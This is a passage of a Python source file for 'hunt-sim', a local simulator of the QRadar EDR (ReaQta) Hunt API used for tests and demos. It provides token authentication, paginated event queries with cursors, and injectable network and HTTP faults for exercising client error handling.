    return Resp(status, _encode(obj), headers=headers)


def error_resp(status, message):
    return json_resp(status, {'message': message, 'code': status})


def auth_failed():
    return json_resp(401, {'message': 'Authentication failed'})


def _b64(b):
    return base64.urlsafe_b64encode(b).decode().rstrip('=')


class Simulator:
    """The API state: credentials, tokens, data set, match cache, faults, stats."""

    def __init__(self, args):
        self.app_id, self.secret, self.lifetime = args.app_id, args.secret, args.token_lifetime
        self.ds = DataSet(args.events, args.seed)
        self.cache = MatchCache(self.ds)
        self.stats = Stats(args.stats)
        self.faults = collections.defaultdict(list)
        for spec in args.fault or ():
            for n, kind in spec:
                self.faults[n].append(kind)
        self.slow_seconds = args.slow_seconds
        self.huge_at = args.huge_at
        if args.huge_field is not None:
            with open(args.huge_field, encoding='utf-8', newline='') as fh:
                self.huge_text = fh.read()
        else:
            self.huge_text = 'A' * HUGE_FIELD_BYTES
        self.log = args.log
        self.tls = args.tls is not None
        self.lock = threading.Lock()
        self.tokens = {}          # token -> expiresAt (epoch seconds)
        self.hunt_seq = 0

    # --- POST /rqt-api/1/authenticate ---
    def authenticate(self, h, query, body):
        obj = h.body_object(body)
        if type(obj) is not dict or type(obj.get('id')) is not str or type(obj.get('secret')) is not str:
            return error_resp(400, 'the body must be a JSON object with string members "id" and "secret"')
        ok_id = hmac.compare_digest(obj['id'].encode(), self.app_id.encode())
        ok_secret = hmac.compare_digest(obj['secret'].encode(), self.secret.encode())
        if not (ok_id and ok_secret):
            return auth_failed()
        now = time.time()
        exp = round(now + self.lifetime, 3)
        header = _b64(b'{"alg":"HS256","typ":"JWT"}')
        claims = _b64(_encode({'sub': self.app_id, 'iat': int(now), 'exp': int(exp),
                               'jti': secrets.token_hex(8)}).encode())
        token = '%s.%s.%s' % (header, claims, _b64(secrets.token_bytes(32)))
        with self.lock:
            for t in [t for t, e in self.tokens.items() if e <= now]:
                del self.tokens[t]
            self.tokens[token] = exp
        r = Resp(200, '{"token":%s,"expiresAt":%.3f}' % (_encode(token), exp))
        r.auth = 1
        return r

    def bearer(self, h):
        scheme, _, token = (h.headers.get('Authorization') or '').strip().partition(' ')
        return token.strip() if scheme.lower() == 'bearer' else ''

    def token_valid(self, token):
        with self.lock:
            exp = self.tokens.get(token)
        return exp is not None and time.time() < exp

    # --- POST /rqt-api/1/events/hunt ---
    def hunt(self, h, query, body):
        with self.lock:
            self.hunt_seq += 1
            kinds = self.faults.get(self.hunt_seq, [])
        nfaults = 0
        delay = 0.0
        replace = None
        page_faults = set()
        for kind in kinds:
            if kind == 'slow':
                delay += self.slow_seconds
                nfaults += 1
            elif kind == 'expire':
                with self.lock:
                    token = self.bearer(h)
                    if token in self.tokens:
                        self.tokens[token] = 0.0
                nfaults += 1
            elif kind in PRE_FAULTS:
                replace = replace or kind
            else:
                page_faults.add(kind)
        if replace:
            r = self.fault_answer(replace)
            nfaults += 1
        else:
            r = self.hunt_page(h, query, body, page_faults)
            nfaults += r.faults
        r.hunt, r.faults, r.delay = 1, nfaults, delay
        return r

    def fault_answer(self, kind):
        if kind in ('429', '429date'):
            retry = '1' if kind == '429' else email.utils.formatdate(time.time() + 2, usegmt=True)
            return json_resp(429, {'message': 'Too many requests', 'code': 429}, [('Retry-After', retry)])
        if kind in ('500', '503', '504'):
            return error_resp(int(kind), ERROR_MESSAGES[int(kind)])
        if kind == '502html':
            return Resp(502, HTML_502, 'text/html')
        if kind == 'garbage':
            return Resp(200, HTML_GARBAGE, 'text/html; charset=utf-8')
        r = Resp(0, b'')
        r.action = 'reset'
        return r

    def hunt_page(self, h, query, body, page_faults):
        if not self.token_valid(self.bearer(h)):
            return auth_failed()
        params = parse_qs(query, keep_blank_values=True)
        count_s = params.get('count', ['50'])[0]
        if not re.fullmatch(r'[0-9]{1,6}', count_s) or not 1 <= int(count_s) <= 500:
            return error_resp(400, 'count must be an integer between 1 and 500')
        count = int(count_s)
        obj = h.body_object(body)
        if type(obj) is not dict or type(obj.get('query')) is not str:
            return error_resp(400, 'the body must be a JSON object with a string member "query"')
        q = obj['query']
        try:
            digest, matches = self.cache.get(q)
        except HunqError as e:
            return error_resp(422, str(e))
        cursor_in = params.get('cursor', [None])[0]
        offset = 0
        if cursor_in is not None:
            c = read_cursor(cursor_in)
            if c is None or c[1] > len(matches):
                return error_resp(400, 'invalid cursor')
            if c[0] != digest:
                return error_resp(400, 'the cursor belongs to another query')
            offset = c[1]
        idx = matches[offset:offset + count]
        events = [self.ds.event(i) for i in idx]
        end = offset + len(idx)
        remaining = len(matches) - end
        scheme = 'https' if self.tls else 'http'
        host = h.headers.get('Host') or '%s:%d' % h.server.server_address[:2]
        nfaults = 0
        if remaining > 0:
            if 'repeatcursor' in page_faults:
                nfaults += 1
                qs = 'count=%d' % count + ('&cursor=' + cursor_in if cursor_in is not None else '')
            else:
                qs = 'count=%d&cursor=%s' % (count, make_cursor(digest, end))
            if 'offhost' in page_faults:
                nfaults += 1
                host = 'elsewhere.invalid'
            next_page = '%s://%s%s?%s' % (scheme, host, HUNT_PATH, qs)
        else:
            next_page = ''
        if 'hugeevent' in page_faults and events:
            at = min(self.huge_at, len(events) - 1)
            events[at]['payload'].setdefault('data', {})['hugeField'] = self.huge_text
            nfaults += 1
        body = ('{"result":[%s],"nextPage":%s,"remainingItems":%d}'
                % (','.join(map(_encode, events)), _encode(next_page), remaining)).encode()
        r = Resp(200, body)
        if 'truncate' in page_faults:
            r.body = body[:len(body) // 2]
            nfaults += 1
        elif 'drop' in page_faults:
            r.action = 'drop'
            nfaults += 1
        r.faults = nfaults
        return r


class Handler(BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'
    server_version = 'hunt-sim/1'
    sys_version = ''
    timeout = 300            # idle keep-alive connections are closed after this
    MAX_BODY = 1 << 20

    def log_message(self, format, *args):     # silent; --log lines come from respond()
        pass

    def version_string(self):
        return self.server_version

    def dispatch(self):
        sim = self.server.sim
        url = urlsplit(self.path)
        body = self.read_body()
        if body is None:
            return
        if url.path == AUTH_PATH:
            route = sim.authenticate
        elif url.path == HUNT_PATH:
            route = sim.hunt
        else:
            return self.respond(error_resp(404, 'not found: %s' % url.path))
        if self.command != 'POST':
            return self.respond(Resp(405, _encode({'message': 'method not allowed', 'code': 405}),
                                     headers=[('Allow', 'POST')]))
        try:
            r = route(self, url.query, body)
        except Exception:
            if sim.log:
                traceback.print_exc()
            r = error_resp(500, 'internal error')
        self.respond(r)

    do_POST = do_GET = do_PUT = do_DELETE = do_PATCH = do_OPTIONS = do_HEAD = dispatch

    def read_body(self):
        """The request body (bytes); None after answering an unreadable one."""
        if 'chunked' in (self.headers.get('Transfer-Encoding') or '').lower():
            chunks, total = [], 0
            while True:
                line = self.rfile.readline(1024)
                try:
                    size = int(line.split(b';')[0].strip(), 16)
                except ValueError:
                    self.close_connection = True
                    return self.respond(error_resp(400, 'bad chunked encoding'))
                if size == 0:
                    while self.rfile.readline(1024).strip():
                        pass
                    return b''.join(chunks)
                total += size
                if total > self.MAX_BODY:
                    self.close_connection = True
                    return self.respond(error_resp(413, 'request body too large'))
                chunks.append(self.rfile.read(size))
                self.rfile.readline(1024)
        length = self.headers.get('Content-Length') or '0'
        if not length.isdigit():
            self.close_connection = True
            return self.respond(error_resp(400, 'bad Content-Length'))
        if int(length) > self.MAX_BODY:
            self.close_connection = True
            return self.respond(error_resp(413, 'request body too large'))
        return self.rfile.read(int(length))

    def body_object(self, body):
        """The body as JSON (or as a form, which stix-shifter sends); None if neither."""
        try:
            return json.loads(body)
        except ValueError:
            pass
        if (self.headers.get('Content-Type') or '').lower().startswith('application/x-www-form-urlencoded'):
            try:
                return {k: v[0] for k, v in parse_qs(body.decode('utf-8'), strict_parsing=True).items()}
            except ValueError:
                pass
        return None

    def respond(self, r):
        sim = self.server.sim
        sim.stats.add(requests=1, hunts=r.hunt, authentications=r.auth, faults=r.faults)
        if sim.log:
            status = 'reset' if r.action == 'reset' else str(r.status) + (' (dropped)' if r.action == 'drop' else '')
            sys.stderr.write('%s %s %s\n' % (self.command, self.path, status))
            sys.stderr.flush()
        if r.action == 'reset':
            self.close_connection = True
            self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))
            self.rfile.close()
            self.connection.close()      # with SO_LINGER 0: RST, no answer
            return
        if r.delay:
            time.sleep(r.delay)
        head = ['HTTP/1.1 %d %s' % (r.status, self.responses.get(r.status, ('',))[0]),
                'Server: ' + self.version_string(), 'Date: ' + self.date_time_string(),
                'Content-Type: ' + r.ctype, 'Content-Length: %d' % len(r.body)]
        head += ['%s: %s' % kv for kv in r.headers]
        if self.close_connection:
            head.append('Connection: close')
        data = ('\r\n'.join(head) + '\r\n\r\n').encode('latin-1')
        if self.command != 'HEAD':
            data += r.body if r.action != 'drop' else r.body[:len(r.body) // 2]
        self.wfile.write(data)
        if r.action == 'drop':
            self.close_connection = True


class Server(ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 128

    def server_bind(self):
        # HTTPServer.server_bind would do a (possibly slow) reverse lookup.
        socketserver.TCPServer.server_bind(self)
        self.server_name, self.server_port = 'localhost', self.server_address[1]

    def get_request(self):
        conn, addr = self.socket.accept()
        self.sim.stats.add(connections=1)
        conn.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)   # no Nagle stall on a page's last TLS record
        return conn, addr

    def finish_request(self, request, client_address):
        if self.ssl_ctx is None:
            return super().finish_request(request, client_address)
        request.settimeout(30)
        try:
            request = self.ssl_ctx.wrap_socket(request, server_side=True)    # handshake in this thread
        except (OSError, ValueError):
            return
        try:
            self.RequestHandlerClass(request, client_address, self)
        finally:
            request.close()

    def handle_error(self, request, client_address):
        if self.sim.log:
            traceback.print_exc()


def serve(args):
    sim = Simulator(args)
    family = socket.AF_INET6 if ':' in args.bind else socket.AF_INET
    Server.address_family = family
    try:
        server = Server((args.bind, args.port), Handler)
    except OSError as e:
        print('hunt-sim: cannot listen on %s port %d: %s' % (args.bind, args.port, e.strerror),
              file=sys.stderr)
        return 1
    server.sim = sim
    server.ssl_ctx = None
    if args.tls is not None:
        make_certs(args.tls)
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.minimum_version = ssl.TLSVersion.TLSv1_2
        ctx.load_cert_chain(os.path.join(args.tls, 'server.pem'), os.path.join(args.tls, 'server.key'))
        server.ssl_ctx = ctx
    sim.stats.add()          # the stats file exists (all zero) once the port file does
    if args.port_file:
        write_atomic(args.port_file, '%d\n' % server.server_address[1])
    try:
        server.serve_forever(poll_interval=0.25)
    except KeyboardInterrupt:
        pass
    finally:
        server.server_close()
    return 0


# ===========================================================================
# Command line
# ===========================================================================

def print_events(ds, indexes):
    out = sys.stdout
    try:
        buf = []
        for i in indexes:
            buf.append(_encode(ds.event(i)))
            if len(buf) >= 1000:
                out.write('\n'.join(buf) + '\n')
                buf = []
        if buf:
            out.write('\n'.join(buf) + '\n')
        out.flush()
    except BrokenPipeError:
        os.dup2(os.open(os.devnull, os.O_WRONLY), sys.stdout.fileno())
    return 0


def main(argv=None):
    p = argparse.ArgumentParser(description='Simulator of the QRadar EDR (ReaQta) Hunt API for tests and demos.')
    p.add_argument('--bind', default='127.0.0.1', help='address to listen on (default 127.0.0.1)')
    p.add_argument('--port', type=int, default=0, help='port (default 0: an ephemeral port)')
    p.add_argument('--port-file', metavar='FILE', help='write the port number here once listening')
    p.add_argument('--tls', metavar='DIR', help='serve HTTPS; certificates in DIR (generated when missing)')
    p.add_argument('--make-certs', metavar='DIR', help='generate the certificates in DIR and exit')
    p.add_argument('--app-id', default='demo-app', help='the API application id (default demo-app)')
    p.add_argument('--secret', default='demo-secret', help='its secret key (default demo-secret)')
    p.add_argument('--token-lifetime', type=float, default=900.0, metavar='SEC', help='token lifetime (900 s)')
    p.add_argument('--events', type=int, default=2000, metavar='N', help='events in the data set (2000)')
    p.add_argument('--seed', type=int, default=1, metavar='S', help='data set seed (1)')
    p.add_argument('--stats', metavar='FILE', help='keep request counters in FILE (one JSON line)')
    p.add_argument('--fault', type=fault_spec, action='append', metavar='KIND@N[,M...]',
                   help='inject a fault on the N-th hunt request: ' + ', '.join(sorted(FAULT_KINDS)))
    p.add_argument('--slow-seconds', type=float, default=3.0, metavar='SEC', help='delay of the slow fault (3)')
    p.add_argument('--huge-field', metavar='FILE', help='the hugeField text of the hugeevent fault (2 MiB of A)')
    p.add_argument('--huge-at', type=int, default=0, metavar='K',
                   help='the event of the page (from 0) the hugeevent fault enlarges (0)')
    p.add_argument('--log', action='store_true', help='log one line per request on stderr')
    p.add_argument('--dump', action='store_true', help='print the data set as NDJSON and exit')
    p.add_argument('--match', metavar='QUERY', help='print the events QUERY matches as NDJSON and exit')
    args = p.parse_args(argv)
    if args.events < 0 or args.events >= 1 << 32:
        p.error('--events must be between 0 and 2^32-1')
    if args.make_certs is not None:
        make_certs(args.make_certs)
        return 0
    if args.dump:
        return print_events(DataSet(args.events, args.seed), range(args.events))
    if args.match is not None:
        ds = DataSet(args.events, args.seed)
        try:
            matches = compile_query(ds, args.match).matches()
        except HunqError as e:
            sys.stderr.write('%s\n' % e)
            return EX_DATAERR
        return print_events(ds, matches)
    return serve(args)


if __name__ == '__main__':
    sys.exit(main())
